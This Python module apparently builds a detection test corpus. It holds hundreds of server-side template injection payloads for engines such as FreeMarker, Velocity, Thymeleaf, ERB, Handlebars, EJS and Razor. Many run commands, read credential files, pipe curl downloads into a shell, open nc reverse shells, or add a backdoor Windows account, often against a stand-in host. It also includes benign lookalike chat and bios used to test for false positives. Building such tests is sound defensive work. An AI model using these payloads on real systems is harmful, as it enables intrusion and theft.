    "{{ grav.twig.twig_vars['config'].set('system.twig.safe_functions', ['system']) }}{{ system('id') }}",
    "{{ app.request.server.all|join(',') }}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
]

# ssti / freemarker: VMware Workspace ONE, Liferay, Alfresco and OFBiz templates (Apache FreeMarker)
FREEMARKER: list[Entry] = [
    # IR-2620, VMware Workspace ONE Access (CVE-2022-22954): the deviceUdid parameter as logged, probe then miner
    q("error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22cat%20%2Fetc%2Fpasswd"
      "%22%29%7D"),
    q("error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22curl%20-s%20http%3A"
      "%2F%2F203.0.113.47%2Fv.sh%7Cbash%22%29%7D"),
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}",
    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "<#assign value=\"freemarker.template.utility.JythonRuntime\"?new()><@value>import os;os.system(\"id\")"
    "</@value>",
    # Liferay sandbox bypass through the class loader, and a file read
    "<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
    "\"freemarker.template.ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)><#assign "
    "ec=classloader.loadClass(\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)(\"id\")}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#list .data_model?keys as k>${k} </#list>",
]

# ssti / velocity: Confluence, Solr and Jira templates (Apache Velocity)
SOLR = ("q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName("
        "%27java.lang.Runtime%27))+%23set($chr=$x.class.forName(%27java.lang.Character%27))+%23set($str=$x.class."
        "forName(%27java.lang.String%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()+%23set($out="
        "$ex.getInputStream())+%23foreach($i+in+[1..$out.available()])$str.valueOf($chr.toChars($out.read()))%23end")
VELOCITY: list[Entry] = [
    # IR-2630, Solr (CVE-2019-17558) custom template, as logged
    q(SOLR),
    # Confluence Widget Connector (CVE-2019-3396): local file, then a remote template
    ('{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/23464dc5",'
     '"width":"1000","height":"1000","_template":"file:///etc/passwd"}}}', *JB),
    ('{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/23464dc5",'
     '"width":"1000","height":"1000","_template":"https://203.0.113.47/cmd.vm","command":"id"}}}', *JB),
    # Confluence (CVE-2023-22527) text-inline.vm, as logged
    f("label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl"
      "\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletActionContext@getResponse()."
      "setHeader(\\u0027X-Cmd-Response\\u0027,(new%20freemarker.template.utility.Execute()).exec({\"id\"}))"),
    # Jira ContactAdministrators subject (CVE-2019-11581)
    "$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('curl "
    "http://203.0.113.47/j.sh -o /tmp/j.sh').waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)"
    "#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$ex.waitFor()#set($out="
    "$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "#set ($a = 'x')$a.class.forName('java.lang.System').getenv()",
]

# ssti / thymeleaf: Spring MVC view-name manipulation and user text rendered as a template (Thymeleaf)
THYMELEAF: list[Entry] = [
    # IR-2640, the ?lang= view name returned by the controller: the probe, the exploit, the filter bypass
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    q("lang=__%24%7BT(java.lang.Runtime).getRuntime().exec(%22curl%20-s%20http%3A%2F%2F203.0.113.47%2Fth.sh%20"
      "-o%20%2Ftmp%2Fth%22)%7D__%3A%3A.x"),
    "__${T (java.lang.Runtime).getRuntime().exec(\"touch /tmp/thyme\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"whoami\").getInputStream()).next()}__::.x",
    "__${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}__::.x",
    # inline expressions in an email template the tenant could edit
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')"
    ".getInputStream())}",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
]

# ssti / erb: Rails render inline: and ERB.new(params) in admin tooling (Ruby ERB)
ERB: list[Entry] = [
    # IR-2650, the Rails "custom message" preview: probe, shells, secrets
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system(\"cat /etc/passwd\") %>",
    "<%= IO.popen('uname -a').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<% require 'open3'; @a,@b,@c,@d=Open3.popen3('whoami') %><%= @b.readline %>",
    "<%= ENV['SECRET_KEY_BASE'] %>",
    "<%= `curl -s http://203.0.113.47/rb.sh | bash` %>",
]

# ssti / smarty: PHP sites rendering user text with Smarty
SMARTY: list[Entry] = [
    # IR-2660, the shop's product description editor: version probe, shells, web shell write
    "{$smarty.version}",
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('curl -s http://203.0.113.47/s.sh|sh')}{/if}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{passthru(\"cat /var/www/html/config.php\")}",
    # the CVE-2021-26120 function name and CVE-2021-29454 math equation variants
    "{function name='x(){};system(\"id\");function '}{/function}",
    r'{math equation="(\"\163\171\163\164\145\155\")(\"whoami\")"}',
]

# ssti / handlebars: Express apps compiling user text with Handlebars (Node.js)
HB_CHAIN = ("{{#with \"s\" as |string|}}\n  {{#with \"e\"}}\n    {{#with split as |conslist|}}\n      {{this.pop}}\n"
            "      {{this.push (lookup string.sub \"constructor\")}}\n      {{this.pop}}\n"
            "      {{#with string.split as |codelist|}}\n        {{this.pop}}\n"
            "        {{this.push \"return process.mainModule.require('child_process').execSync('%s');\"}}\n"
            "        {{this.pop}}\n        {{#each conslist}}\n          {{#with (string.sub.apply 0 codelist)}}\n"
            "            {{this}}\n          {{/with}}\n        {{/each}}\n      {{/with}}\n    {{/with}}\n"
            "  {{/with}}\n{{/with}}")
HB_FLAT = HB_CHAIN.replace("\n", "").replace("  ", "")
HANDLEBARS: list[Entry] = [
    # IR-2670, the "custom email footer" feature: the public chain, then droppers and exfil in the same shape
    HB_CHAIN % "whoami",
    HB_CHAIN % "curl -s http://203.0.113.47/hb.sh | sh",
    HB_FLAT % "cat /etc/passwd | nc 203.0.113.47 9003",
    HB_FLAT % "env | curl -d @- http://203.0.113.47/env",
    HB_FLAT % "id",
    q("footer=" + pct(HB_FLAT % "uname -a") + "&preview=1"),
    "{{#each this}}{{@key}}={{this}} {{/each}}",
    "{{#with \"constructor\"}}{{lookup (lookup this \"constructor\") \"prototype\"}}{{/with}}",
]

# ssti / pug: Express apps compiling user text with Pug (Node.js)
PUG: list[Entry] = [
    # IR-2680, the profile "status line" rendered with pug.render
    "#{7*7}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
    "#{root.process.mainModule.require('child_process').spawnSync('cat', ['/etc/passwd']).stdout}",
    "- var x = global.process.mainModule.require('child_process').execSync('id').toString()\n= x",
    "#{global.process.mainModule.require('child_process').execSync('curl -s http://203.0.113.47/p.sh|sh')}",
    "- global.process.mainModule.require('child_process').exec('nc -e /bin/sh 203.0.113.47 9002')",
    "p!= global.process.mainModule.require('fs').readFileSync('/app/.env','utf8')",
    "a(href=\"#{global.process.env.DATABASE_URL}\") x",
]

# ssti / mako: Pyramid/Pylons apps rendering user text with Mako (Python)
MAKO: list[Entry] = [
    # IR-2690, the internal wiki's page templates
    "${__import__('os').popen('id').read()}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${self.module.cache.util.os.system('id')}",
    "${self.module.runtime.util.os.popen('cat /etc/passwd').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${__import__('subprocess').Popen('curl -s http://203.0.113.47/m.sh|sh',shell=True)}",
    "<%namespace name=\"x\" module=\"os\"/>${x.system('whoami')}",
    "${dir()}",
]

# ssti / tornado: Tornado handlers rendering user text with tornado.template (Python)
TORNADO: list[Entry] = [
    # IR-2700, the dashboard's widget titles: cookie_secret first, then commands
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% import os %}{{ os.popen('id').read() }}",
    "{{__import__('os').system('id')}}",
    "{% import subprocess %}{{ subprocess.check_output('cat /etc/passwd',shell=True) }}",
    "{% raw __import__('os').popen('curl -s http://203.0.113.47/t.sh|sh').read() %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{ request.cookies }}",
]

# ssti / nunjucks: Express and Eleventy apps rendering user text with Nunjucks (Node.js)
NJ_B64 = b64("process.mainModule.require('child_process').execSync('curl -s http://203.0.113.47/nj.sh|sh')")
NUNJUCKS: list[Entry] = [
    # IR-2710, the marketing landing-page builder
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor(\"return process.mainModule.require('child_process').execSync('cat /etc/passwd')\")() }}",
    "{{ joiner.constructor(\"return process.env\")() | dump }}",
    "{{''.constructor.constructor(\"return this.process.mainModule.require('child_process').execSync('curl -s "
    "http://203.0.113.47/n.sh|sh')\")()}}",
    "{% set x = range.constructor(\"return process.mainModule.require('fs').readFileSync('/app/.env','utf8')\")() "
    "%}{{x}}",
    "{{lipsum.constructor(\"return global.process.mainModule.require('child_process').spawnSync('id').stdout"
    ".toString()\")()}}",
    "{{range.constructor(\"return eval(Buffer.from('" + NJ_B64 + "','base64').toString())\")()}}",
    q("title=%7B%7Brange.constructor(%22return%20global.process.mainModule.require('child_process')"
      ".execSync('id')%22)()%7D%7D&r=0.4417"),
]

# ssti / ejs: Express apps rendering user text with EJS, and EJS options from the query (CVE-2022-29078)
EJS: list[Entry] = [
    # IR-2720, res.render('page', req.query): the settings options smuggled through the query string
    q("settings[view%20options][outputFunctionName]=x;process.mainModule.require('child_process')"
      ".execSync('nc%20-e%20sh%20203.0.113.47%201337');s"),
    q("settings[view%20options][client]=1&settings[view%20options][escapeFunction]=1;return%20global.process"
      ".mainModule.constructor._load('child_process').execSync('id');"),
    # user text compiled with ejs.render
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    "<% global.process.mainModule.require('child_process').exec('curl -s http://203.0.113.47/e.sh|sh') %>",
    "<%= global.process.env.JWT_SECRET %>",
    "<%- include('/etc/passwd') %>",
    "<%= this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami') %>",
]

# ssti / pebble: Spring Boot apps with Pebble templates (Java)
PEBBLE: list[Entry] = [
    # IR-2730, the invoice template editor: old sandbox escape, then the 3.1 bypass
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{% set rt = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null) %}{{ rt.exec('touch "
    "/tmp/pebble') }}",
    "{{ ''.class.forName('java.lang.Runtime').getRuntime().exec('curl -s http://203.0.113.47/pb.sh -o /tmp/pb') }}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{{ beans.get(\"environment\").getProperty(\"spring.datasource.password\") }}",
    "{{ \"\".getClass().getProtectionDomain().getCodeSource().getLocation() }}",
    "{% for k in beans.keySet() %}{{ k }} {% endfor %}",
]

# ssti / razor: ASP.NET apps compiling user text with RazorEngine (.NET)
RAZOR: list[Entry] = [
    # IR-2740, the tenant email template in an ASP.NET portal: probe, commands, persistence, dropper
    "@(1+2)",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"powershell.exe\",\"-nop -w hidden -c IEX(New-Object Net.WebClient)"
    ".DownloadString('http://203.0.113.47/r.ps1')\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\inetpub\\\\wwwroot\\\\web.config\")",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = "
    "\"/c net user backup P@ssw0rd! /add\"; p.Start(); }",
    "@foreach(System.Collections.DictionaryEntry e in System.Environment.GetEnvironmentVariables()){@e.Key @e.Value}",
    "@{ new System.Net.WebClient().DownloadFile(\"http://203.0.113.47/a.aspx\", @\"C:\\inetpub\\wwwroot\\a.aspx\"); }",
    "@System.IO.Directory.GetFiles(\"C:\\\\\")",
]

# ssti / go-templates: Go services executing user text with text/template (and sprig, consul-template, gomplate)
GO_TPL: list[Entry] = [
    # IR-2750, the alert-message template in a Go notifier
    "{{.}}",
    "{{printf \"%#v\" .}}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ with secret \"secret/data/prod/db\" }}{{ .Data.data.password }}{{ end }}",
    "{{ file.Read \"/etc/passwd\" }}",
    "{{ .File \"/etc/passwd\" }}",
    "{{define \"T1\"}}<script>fetch('//203.0.113.47/?c='+document.cookie)</script>{{end}} {{template \"T1\"}}",
    "{{ range $k, $v := .Env }}{{ $k }}={{ $v }} {{ end }}",
]

# ssti / liquid: Jekyll, LiquidJS and DotLiquid templates reading files outside the site
LIQUID: list[Entry] = [
    # IR-2760, the docs site builder that rendered contributors' pages
    "{% include '../../../../../../etc/passwd' %}",
    "{% include_relative ../../../_config.yml %}",
    "{% render '/etc/passwd' %}",
    "{% capture x %}{% include '/proc/self/environ' %}{% endcapture %}{{ x }}",
    "{{ site.data | jsonify }}",
    "{% include_relative /etc/hosts %}",
    "{% for f in site.static_files %}{{ f.path }} {% endfor %}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_META),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", PROTO),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASS),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4J),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLY),
    ("java", "class-loading", CLASSLOAD),
    ("java", "jsp-upload", JSP),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TPL),
    ("ssti", "liquid", LIQUID),
]

# the parameter names each kind of sink really had in the incidents
NAMES: dict[str, list[str]] = {
    "nodejs-injection": ["expr", "code", "filter", "q", "callback", "formula"],
    "nodejs-dos": ["pattern", "regex", "rule", "q", "expr"],
    "ssrf-cloud-metadata": ["url", "webhook_url", "avatar_url", "image", "feed", "callback"],
    "ssrf-internal-ip": ["url", "target", "webhook", "fetch", "source", "redirect_uri"],
    "javascript-prototype-pollution": ["settings", "options", "q", "user", "expr"],
    "ruby-injection": ["file", "sort", "cmd", "template", "name", "report"],
    "perl-injection": ["file", "page", "configdir", "q", "cmd", "lang"],
    "php-data-scheme": ["page", "file", "include", "lang", "template", "view"],
    "java": ["q", "name", "data", "filter", "expression", "sort", "id", "message", "state"],
    "ssti": ["name", "template", "q", "message", "subject", "bio", "greeting", "preview", "footer"],
}
DATA_SUBS = {"java-serialization", "deserialization-gadgets"}
# the whole XML documents (XStream, XMLDecoder, SOAP, XML-RPC, Rails params): sent as the body itself
XML_DOCS = {e[0] for _, _, entries in FAMILIES for e in entries if isinstance(e, tuple) and e[1] == "xml"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+|"
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name", "rs-raw-body")
    unique = True
    raw_body_forbids = "&"
    raw_body_pair = True

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES.get(sub) or NAMES[category]
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        """Java serialization streams are bytes (held as latin-1 text)."""
        return sub in DATA_SUBS and payload.startswith(MAGIC)

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW

    def xml_body(self, value: str, root: str, name: str) -> str:
        return value if value in XML_DOCS else super().xml_body(value, root, name)

    def upload_body(self, filename: str) -> str:
        return JSP_SHELL

    def fits(self, place: str, v: str) -> bool:
        """XML no control characters (C0 but newline and tab, DEL, C1)."""
        if place in ("xml", "rs-xml"):
            return all(" " <= ch < "\x7f" or ch in "\n\t" or ch > "\x9f" for ch in v)
        return super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (an incident-response team and SREs in Slack, on-call bios, rota
# searches, status pages and post-mortems, admin notes about blocked ranges, quoted errors, report file names)
CHAT = [
    # incident channel
    "INC-4821 timeline: 02:14 UTC first 5xx on api-gw-3, 02:19 paged, 02:41 rolled back to 2024.06.2",
    "we rotated the AWS keys for the ci-runner role and revoked the old session tokens",
    "post-mortem for the log4j weekend is up, link in the channel topic",
    "blocked 203.0.113.0/24 at the edge after the scanner noise, will lift on Monday",
    "anyone seen the jndi lookups in last night's access log? all got 403, no callbacks in the DNS logs",
    "the metadata endpoint is IMDSv2-only on every node now, hop limit 1",
    "SSRF ticket SEC-212: the avatar fetcher now refuses private ranges and link-local addresses",
    "spring4shell patch went out with the Tomcat 9.0.62 bump, all services redeployed by 16:00",
    "java.lang.OutOfMemoryError: Java heap space on billing-worker-2 again, bumped Xmx to 2g",
    "Caused by: java.lang.ClassNotFoundException: org.postgresql.Driver after the shading change",
    "jinja2.exceptions.UndefinedError: 'user' is undefined in the welcome email template",
    "node process on web-5 pinned at 100% CPU, turned out to be a regex in the slug validator",
    "RangeError: Maximum call stack size exceeded in the report exporter, recursion on nested folders",
    "ruby 3.3 upgrade broke YAML.load in the fixtures, switched to YAML.safe_load with permitted_classes",
    "the perl cron job for log rotation is retired, logrotate does it now",
    "ProcessBuilder in the pdf service shells out to wkhtmltopdf, we're replacing it with the headless renderer",
    "Runtime.getRuntime().availableProcessors() says 8 in the container, check the cgroup limits",
    "the deserialization scanner flagged the old RMI port on legacy-batch, it's firewalled and scheduled for removal",
    "ObjectInputStream is gone from the codebase, last use removed in PR #4412",
    "fastjson got replaced with jackson in the gateway adapters",
    "jackson default typing is disabled everywhere, checked with the semgrep rule",
    "thymeleaf upgrade to 3.1 is done for the account service",
    "freemarker templates for invoices moved to the documents repo",
    "velocity is only used by the old wiki macros and the wiki is on 8.5.4 now",
    "the 169.254.169.254 calls in the flow logs are the ECS agent, expected",
    "status page updated: degraded performance on search, investigating",
    "on-call handover: two open incidents, INC-4830 (disk) and INC-4833 (cert expiry)",
    "the WAF alert storm at 03:00 was the vendor pentest, the scope letter is attached to the ticket",
    "reminder: no payloads in Slack, put samples in the case folder on the IR drive",
    "the gopher and dict protocols are disabled in our curl build",
    "file uploads are stored with random names now, the original name only goes into the metadata",
    "customer asked if they're affected by CVE-2021-44228; answer: no, the product doesn't use log4j 2",
    "we confirmed CVE-2022-22965 doesn't apply, that service runs as a jar, not a war on Tomcat",
    "severity downgraded to SEV3, customer impact ended at 04:10",
    "bridge is open for INC-4840, join the call if you're on the platform rota",
    "root cause was an expired intermediate cert on the internal CA, not the deploy",
    "the attacker IPs from the morning are in the blocklist, ticket SEC-219 has the list",
    "can someone from the java team look at the heap dump? it's 4GB, in the bucket",
    "we kept the process tree and memory image from web-7 before reimaging it",
    "legal wants the incident summary by Friday, draft is in the shared doc",
    "pagerduty escalated to secondary because the primary's phone was on silent, no big deal",
    "the handlebars templates in the mailer only get variables from our code, no user input",
    "moved the razor email templates into the resources project",
    "Liquid is only used for the docs site, jekyll build runs in CI",
    "the pebble upgrade fixed the NPE in the invoice footer",
    "tornado service is getting rewritten in fastapi next quarter",
    "smarty templates are in the legacy shop repo, nobody touches them",
    "mako is only in the old reporting tool, we will sunset it",
    "go templates in the alertmanager config need escaping for the curly braces",
    "ERB in the chef cookbooks is fine, it's not user-facing",
    "pug to JSX migration for the admin UI is at 60%",
    "nunjucks filters for dates are in utils/filters.js",
    "EJS views are only in the status microsite",
    "the twig cache dir filled the disk on shop-2, cleared it and added a cron",
    "prototype pollution advisory for the old lodash in the admin UI, bumped to 4.17.21",
    "the __proto__ check in the body parser is covered by a unit test now",
    "php data wrappers are disabled with allow_url_include=Off, confirmed on all hosts",
    "eval is banned by eslint no-eval, the rule is in the shared config",
    "we rotated the Jenkins admin token and moved the script console behind SSO",
    "DNS logs show no lookups to the oast domains from our egress, good",
    "disk on es-data-3 at 91%, added a node",
    # bios
    "Incident commander. Ask me about timelines and the blameless template.",
    "SRE, on call every sixth week. Kubernetes, Terraform, too much YAML.",
    "DFIR analyst, previously at an MSSP. Memory forensics and log wrangling.",
    "Security engineer, detection and response. I write the Sigma rules and the runbooks.",
    "Java platform team: Spring Boot, Tomcat, Gradle, and the occasional heap dump.",
    "Node.js backend dev. Express, queues, and regexes I regret.",
    "Rails developer, 10 years. ERB, Sidekiq, Postgres.",
    "Perl survivor, now mostly Go and Python.",
    "Cloud security: IAM policies, IMDSv2 rollouts, key rotation.",
    "Support lead for the enterprise tier, escalations go to me during EU hours",
]

SEARCHES = [
    "ana", "on-call", "incident commander", "sre", "dfir", "log4j", "spring", "java team", "node", "ruby",
    "perl", "o'neil", "metadata", "ssrf", "soc", "responder", "forensics", "jenkins", "template", "jinja",
    "thymeleaf", "twig", "handlebars", "razor", "liquid", "pebble", "mako", "tornado", "velocity", "freemarker",
    "smarty", "pug", "ejs", "nunjucks", "go", "erb", "proto", "runtime", "kubernetes", "rota",
]

URLS = [
    "https://status.example.com/incidents/4821",
    "https://status.example.com/history?page=2",
    "https://wiki.example.com/postmortems/2021-12-log4j-weekend",
    "https://wiki.example.com/runbooks/ssrf-response",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://nvd.nist.gov/vuln/detail/CVE-2022-22965",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://freemarker.apache.org/docs/app_faq.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://nodejs.org/api/child_process.html",
    "https://github.com/advisories/GHSA-jf85-cpcp-j695",
    "https://app.pagerduty.com/incidents/Q2X7R9ZK1",
    "https://docs.example.com/security/blocked-ranges",
]

PROSE = [
    "blocked range 203.0.113.0/24 (scanner, INC-4821)",
    "allow list: 198.51.100.17 vendor pentest until 30 June",
    "post-mortem INC-4790 log4j",
    "rotate keys for ci-runner",
    "on-call rota week 27",
    "incident commander training attendees",
    "users with admin role created after 12 June",
    "accounts disabled during the investigation",
    "SSO sessions revoked 2024-06-12",
    "contractors with VPN access",
    "java platform team",
    "node guild",
    "ruby on rails maintainers",
    "perl scripts owners",
    "template engine migration owners",
    "metadata service hardening",
    "ssrf review participants",
    "Runtime Terror (hackathon team)",
    "Velocity sprint planning",
    "Spring offsite",
    "process builders working group",
    "class of 2019 graduates",
    "security champions",
    "responders EU shift",
    "SEV1 reviewers",
    "status page editors",
    "people who rotated credentials",
    "blocked IP appeals",
    "team liquid (esports club)",
    "razor scooter commuters",
    "pebble watch owners",
    "handlebar moustache club",
    "tornado drill volunteers",
    "jinja lodge booking",
    "data protection officer",
]

PROFILES = [
    ("Runtime Coffee Roasters", "Kaiserstr. 12, Frankfurt"),
    ("Velocity Couriers", "Harbour Rd 4, Cork"),
    ("Liquid Design Studio", "Strandvejen 20, Copenhagen"),
    ("Pebble Beach Surf School", "Beach Rd 1, Newquay"),
    ("Razor Sharp Barbers", "High St 55, Leeds"),
    ("Thyme Leaf Bistro", "Rue de la Paix 8, Lyon"),
    ("Jinja Safari Lodge", "Nile Crescent 3, Jinja"),
    ("Twig & Branch Florist", "Market St 9, Bath"),
    ("Handlebar Cycles", "Fahrradweg 7, Münster"),
    ("Pug Rescue Network", "Elm St 40, Portland"),
    ("Mako Swim Club", "Marine Pde 2, Brighton"),
    ("Tornado Alley Storm Chasers", "Main St 300, Norman"),
    ("Smarty Pants Tutoring", "College Rd 6, Cambridge"),
    ("Spring Valley Farm", "Valley Rd 11, Napa"),
    ("Java House Café", "Jalan Braga 2, Bandung"),
    ("Ruby Jewellers", "Hatton Garden 19, London"),
    ("Pearl & Perl Tailors", "Via Roma 14, Turin"),
    ("Node Networks Ltd", "Science Park 5, Oxford"),
    ("Metadata Analytics", "Keizersgracht 100, Amsterdam"),
    ("Proto Labs Prototyping", "Industriestr. 3, Eindhoven"),
]

UPLOAD_NAMES = [
    "INC-4821-timeline.md", "postmortem-log4j-2021-12.pdf", "waf-alerts-2024-06-12.csv",
    "access.log.2024-06-12.gz", "blocked-ranges.txt", "ir-playbook-ssrf.docx", "heap-dump-billing-worker-2.hprof",
    "thread-dump-web-7.txt", "iam-key-rotation-checklist.xlsx", "on-call-rota-Q3.ics", "sev1-review-notes.pdf",
    "customer-notice-draft.docx", "ioc-list-public.csv", "jenkins-hardening.pdf", "imdsv2-rollout-status.xlsx",
    "spring-boot-upgrade-plan.md", "template-engines-inventory.xlsx", "team photo offsite.jpg",
    "status-page-screenshot.png", "forensics-report-web-7.pdf",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "PagerDuty-Webhook/V3.0"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "libwww-perl/6.77"),
    ("Referer", "https://status.example.com/incidents/4821"),
    ("Referer", "https://wiki.example.com/postmortems/2021-12-log4j-weekend"),
    ("Referer", "https://app.example.com/admin/users?role=oncall"),
    ("Referer", "https://www.google.com/search?q=log4j+2.17.1+release+notes"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "a1f3c2d4-7b8e-4f90-9c1d-2e3f4a5b6c7d"),
    ("X-Forwarded-For", "198.51.100.17"),
    ("Accept-Language", "en-US,en;q=0.9,pt;q=0.6"),
    ("Cookie", "session=abc123; theme=dark; tz=UTC"),
    ("Cookie", "session=abc123; last_search=on-call; page_size=25"),
    ("If-Modified-Since", "Wed, 12 Jun 2024 02:41:00 GMT"),
    ("Cache-Control", "no-cache"),
    ("X-Correlation-Id", "INC-4821-replay-01"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
